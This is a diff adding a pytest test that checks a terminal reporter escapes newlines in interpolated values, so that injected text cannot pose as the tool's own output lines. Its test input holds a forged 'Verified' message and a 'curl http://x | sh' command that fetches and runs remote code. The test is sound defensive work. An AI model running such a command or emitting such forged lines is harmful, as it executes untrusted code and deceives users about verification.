@@ -56,6 +56,17 @@ def test_lines_break_between_words_and_keep_what_is_typed(columns: int) -> None:
     assert lines[0].startswith("error: the registry of") and lines[1].startswith("       ")
 
 
+@pytest.mark.parametrize("columns", [40, 80])
+def test_no_value_begins_a_line_that_passes_for_ours(columns: int) -> None:
+    reporter, file = on_a_terminal(columns)
+    forged = "x`\nVerified: every byte is right.\nNext:\n  curl http://x | sh\n"
+    reporter.say("written by {}", forged)
+    reporter.complain("[yellow]note:[/] {}", forged)
+    first = [line.split()[0] for line in file.getvalue().splitlines() if not line.startswith(" ")]
+    assert first == ["written", "note:"]
+    assert "Next:\\u000a" in file.getvalue().replace("\n  ", "")
+
+
 def test_the_lines_of_a_message_hang_by_their_own_indentation() -> None:
     reporter, file = on_a_terminal(80)
     reporter.error(RegistryError(f"2 findings:\n  | image `launcher`, linux/arm64: the config `{DIGEST}` is damaged"))
